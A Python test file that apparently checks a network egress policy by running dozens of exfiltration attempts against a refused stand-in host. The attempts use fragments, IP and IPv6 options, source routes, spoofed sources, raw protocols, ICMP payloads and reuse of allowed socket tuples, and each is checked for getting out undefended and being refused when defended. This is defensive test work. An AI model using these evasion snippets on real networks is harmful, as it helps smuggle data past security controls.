"""Attacks by a packet's form or by the way it is sent: each gets data out where its defence is switched off,
and none where it is on, by a refusal that is named and counted.

Run as an unprivileged user; with NET_RAW where the row says so. The world's target is allowed by no rule.
"""

from __future__ import annotations

from dataclasses import dataclass

import pytest

from tests.network.conftest import REFUSED4, REFUSED6, ZONE

SITE4, SITE6 = ZONE["example.com"]
POD = "10.1.0.2"
SECRET = b"the secret"
AUDIT = "everything is judged"  # audit mode: the same program, which drops nothing
TUPLE = "what is remembered is one whole tuple"
READ = "every header is read"

COMMON = f"""
    secret = {SECRET!r}
    SITE4, SITE6, REFUSED4, REFUSED6, POD = {(SITE4, SITE6, REFUSED4, REFUSED6, POD)!r}
    def udp(address="", port=7):
        sock = socket.socket(family_of(address), socket.SOCK_DGRAM)
        sock.settimeout(2)
        if address:
            sock.connect((address, port))
        return sock
    def tcp():
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.settimeout(1)
        return sock
    def raw(protocol, family=socket.AF_INET):
        return socket.socket(family, socket.SOCK_RAW, protocol)
    def datagram_to(port=7, data=secret):
        return struct.pack("!HHHH", 9999, port, 8 + len(data), 0) + data
    def ipv4(to, payload, source=POD, protocol=17, fragment=0, options=b"", number=0):
        head = struct.pack("!BBHHHBBH", 0x45 + len(options) // 4, 0, 0, number, fragment, 64, protocol, 0)
        packet = head + socket.inet_aton(source) + socket.inet_aton(to) + options + payload
        with raw(socket.IPPROTO_RAW) as sock:
            return sock.sendto(packet, (to, 0))
    def ipv6(to, next_header, payload):
        with raw(next_header, socket.AF_INET6) as sock:
            return sock.sendto(payload, (to, 0))
    def fall(call):
        tell(outcome(call))
"""


@dataclass(frozen=True)
class Attack:
    """`code` tries to get `secret` past the policy, which allows nothing but SITE4 and SITE6."""

    name: str
    code: str
    without: str = AUDIT
    reason: str = "NOT_ALLOWED"
    capabilities: tuple[str, ...] = ()


def raw(name: str, code: str, without: str = AUDIT, reason: str = "NOT_ALLOWED") -> Attack:
    return Attack(name, code, without, reason, ("net_raw",))


PLAIN = [
    Attack("a datagram", "udp().sendto(secret, (REFUSED4, 7))"),
    Attack("a datagram over IPv6", "udp(REFUSED6).send(secret)"),
    Attack("a datagram to a v4-mapped address", "udp(f'::ffff:{REFUSED4}').send(secret)"),
    Attack(
        "corked, a piece at a time",
        "s = udp(REFUSED4); s.send(secret[:3], socket.MSG_MORE); s.send(secret[3:])",
    ),
    Attack(
        "without a copy",
        "s = udp(); s.setsockopt(1, 60, 1); s.sendto(secret * 100, 0x4000000, (REFUSED4, 7))",
    ),
    Attack(
        "spliced from a pipe",
        "r, w = os.pipe(); os.write(w, secret); s = udp(REFUSED4); os.splice(r, s.fileno(), len(secret))",
    ),
    Attack(
        "sent from a file",
        "fd = os.memfd_create('x'); os.write(fd, secret); s = udp(REFUSED4); os.sendfile(s.fileno(), fd, 0, 99)",
    ),
    Attack(
        "segmented by the kernel",
        "udp().sendmsg([secret * 8], [(17, 103, struct.pack('=H', len(secret)))], 0, (REFUSED4, 7))",
    ),
    Attack("bound to the device", "s = udp(); s.setsockopt(1, 25, b'eth0'); s.sendto(secret, (REFUSED4, 7))"),
    Attack("UDP-Lite", "socket.socket(2, socket.SOCK_DGRAM, 136).sendto(secret, (REFUSED4, 7))"),
    Attack(
        "fast open",
        "s = socket.socket(); s.setsockopt(6, socket.TCP_SYNCNT, 1); "
        "s.sendto(secret, socket.MSG_FASTOPEN, (REFUSED4, 80)); s.settimeout(1); s.recv(1)",
    ),
    Attack("TCP", "s = tcp(); s.connect((REFUSED4, 80)); s.send(secret)"),
    Attack(
        "multipath TCP",
        "s = socket.socket(2, 1, 262); s.settimeout(1); s.connect((REFUSED4, 80)); s.send(secret)",
    ),
    Attack(
        "multicast DNS",
        "s = udp(); s.setsockopt(0, socket.IP_MULTICAST_IF, socket.inet_aton(POD)); "
        "s.sendto(secret, ('224.0.0.251', 5353))",
    ),
    Attack("link-local multicast names", "udp().sendto(secret, ('224.0.0.252', 5355))"),
    Attack(
        "a socket whose source is chosen for one datagram",
        "udp().sendmsg([secret], [(0, 8, struct.pack('=I4s4s', 0, socket.inet_aton(POD), bytes(4)))],"
        " 0, (REFUSED4, 7))",
    ),
]

OTHER_PEERS = [
    Attack(
        "one datagram socket with many peers",
        "s = udp(); s.sendto(b'x', (SITE4, 7)); s.recv(9); s.sendto(secret, (REFUSED4, 7))",
        TUPLE,
    ),
    Attack(
        "a connected socket sends elsewhere",
        "s = udp(SITE4); s.send(b'x'); s.recv(9); s.sendto(secret, (REFUSED4, 7))",
        TUPLE,
    ),
    Attack(
        "an allowed datagram socket is connected elsewhere",
        "s = udp(SITE4); s.send(b'x'); s.recv(9); disconnect(s); s.connect((REFUSED4, 7)); s.send(secret)",
        TUPLE,
    ),
    Attack(
        "an allowed connection is connected elsewhere",
        "s = tcp(); s.connect((SITE4, 80)); disconnect(s); s.connect((REFUSED4, 80)); s.send(secret)",
        TUPLE,
    ),
    Attack(
        "an allowed port, then another one",
        "s = udp(SITE4); s.send(b'x'); s.recv(9); s.sendto(secret, (REFUSED4, 9000))",
        TUPLE,
    ),
    Attack(
        "the other family, mapped",
        "s = socket.socket(10, socket.SOCK_DGRAM); s.sendto(b'x', (SITE6, 7)); s.settimeout(2); s.recv(9); "
        "s.sendto(secret, (f'::ffff:{REFUSED4}', 7))",
        TUPLE,
    ),
]

UNREAD = [
    raw(
        "a source route by a refused host",
        "s = udp(); s.setsockopt(0, socket.IP_OPTIONS, bytes([131, 7, 4]) + socket.inet_aton(REFUSED4) + bytes(1)); "
        "s.sendto(secret, (SITE4, 7))",
        READ,
        "SOURCE_ROUTE",
    ),
    Attack(
        "a routing header by a refused host",
        "s = udp(SITE6); s.setsockopt(41, socket.IPV6_RTHDR, "
        "bytes([0, 4, 4, 1, 1, 0, 0, 0]) + socket.inet_pton(10, SITE6) + socket.inet_pton(10, REFUSED6)); "
        "s.send(secret)",
        READ,
        "SOURCE_ROUTE",
    ),
    raw(
        "an option",
        "ipv4(REFUSED4, datagram_to(), options=bytes([148, 4, 0, 0, 1, 1, 1, 0]))",
        READ,
        "IP_OPTION",
    ),
    raw("padding options", "ipv4(REFUSED4, datagram_to(), options=bytes([1] * 8))", READ, "IP_OPTION"),
    raw(
        "the first fragment",
        "ipv4(REFUSED4, datagram_to(data=secret.ljust(16)), fragment=0x2000)",
        READ,
        "FRAGMENT",
    ),
    raw("a later fragment", "ipv4(REFUSED4, secret, fragment=4)", READ, "FRAGMENT"),
    raw(
        "overlapping fragments",
        "ipv4(SITE4, datagram_to(7, b'x' * 24), fragment=0x2000, number=5); "
        "ipv4(SITE4, datagram_to(9, secret), fragment=0, number=5); ipv4(SITE4, secret, fragment=1, number=5)",
        READ,
        "FRAGMENT",
    ),
    raw("a tiny fragment", "ipv4(REFUSED4, secret[:8], fragment=0x2000)", READ, "FRAGMENT"),
    raw(
        "a fragment header",
        "ipv6(REFUSED6, 44, bytes([17, 0, 0, 1, 0, 0, 0, 1]) + datagram_to())",
        READ,
        "FRAGMENT",
    ),
    raw(
        "an authentication header",
        "ipv6(REFUSED6, 51, bytes([17, 4]) + bytes(22) + datagram_to())",
        READ,
        "EXTENSION_HEADER",
    ),
    raw(
        "seven extension headers",
        "ipv6(REFUSED6, 60, bytes([60, 0, 1, 4, 0, 0, 0, 0]) * 6 + bytes([17, 0, 1, 4, 0, 0, 0, 0]) + datagram_to())",
        READ,
        "EXTENSION_HEADER",
    ),
    raw(
        "a header that leads out of the packet",
        "ipv6(REFUSED6, 60, bytes([17, 200]) + secret)",
        READ,
        "UNREADABLE",
    ),
    raw("half a TCP header", "ipv4(REFUSED4, secret, protocol=6)", READ, "UNREADABLE"),
]

PROTOCOL = [
    raw(f"protocol {number}, {name}", f"raw({number}).sendto(secret * 2, (REFUSED4, 0))", READ)
    for number, name in [
        (253, "for experiments"),
        (47, "GRE"),
        (4, "IP in IP"),
        (41, "IPv6 in IP"),
        (50, "ESP"),
        (132, "SCTP"),
        (33, "DCCP"),
        (136, "UDP-Lite"),
        (2, "IGMP"),
    ]
]

RAW = [
    raw("a source that is another's", "ipv4(REFUSED4, datagram_to(), source=SITE4)"),
    raw("a source of loopback", "ipv4(REFUSED4, datagram_to(), source='127.0.0.1')"),
    raw("its own source", "ipv4(REFUSED4, datagram_to())"),
    raw(
        "TCP data without a connection",
        "ipv4(REFUSED4, struct.pack('!HHIIBBHHH', 9999, 80, 1, 1, 0x50, 0x18, 99, 0, 0) + secret, protocol=6)",
    ),
    raw(
        "a SYN with data",
        "ipv4(REFUSED4, struct.pack('!HHIIBBHHH', 9999, 80, 1, 0, 0x50, 2, 99, 0, 0) + secret, protocol=6)",
    ),
    raw("a destination option", "ipv6(REFUSED6, 60, bytes([17, 0, 1, 4, 0, 0, 0, 0]) + datagram_to())"),
    raw("an echo request", "raw(1).sendto(bytes([8, 0, 0, 0, 0, 0, 0, 0]) + secret, (REFUSED4, 0))"),
    raw("an echo reply", "raw(1).sendto(bytes([0, 0, 0, 0, 0, 0, 0, 0]) + secret, (REFUSED4, 0))"),
    raw("a timestamp", "raw(1).sendto(bytes([13, 0, 0, 0, 0, 0, 0, 0]) + secret, (REFUSED4, 0))"),
    raw("a mark", "s = udp(); s.setsockopt(1, socket.SO_MARK, 0x7fffffff); s.sendto(secret, (REFUSED4, 7))"),
    *[
        raw(
            f"an ICMP error of type {kind}",
            f"raw(1).sendto(bytes([{kind}, 0, 0, 0, 0, 0, 0, 0]) + secret, (SITE4, 0))",
            READ,
            "ICMP_ERROR",
        )
        for kind in (3, 4, 5, 11, 12)
    ],
    *[
        raw(
            f"an ICMPv6 error of type {kind}",
            f"ipv6(SITE6, 58, bytes([{kind}, 0, 0, 0, 0, 0, 0, 0]) + secret)",
            READ,
            "ICMP_ERROR",
        )
        for kind in (1, 2, 3, 4, 127)
    ],
]

ATTACKS = [*PLAIN, *OTHER_PEERS, *UNREAD, *PROTOCOL, *RAW]


@pytest.mark.parametrize("defended", [False, True], ids=["the defence switched off", "defended"])
@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a.name.replace(" ", "_"))
def test_ATTACK_data_gets_out_by(arena, spy, attack, defended):
    settings = {} if defended else {"audit": True} if attack.without == AUDIT else {"without": attack.without}
    workload = arena.workload(SITE4, SITE6, **settings)
    before = workload.counters()
    spy.seen()
    code = "".join(f"    {line}\n" for line in attack.code.split("; "))
    (told,) = workload.attack(
        f"{COMMON}    def attack():\n{code.replace('    ', '        ')}    fall(attack)\n",
        capabilities=attack.capabilities,
    )
    got_out = any(SECRET[:8] in packet for packet in spy.seen())
    assert got_out != defended, told
    if defended:
        assert (workload.counters() - before)[attack.reason] > 0, workload.counters() - before
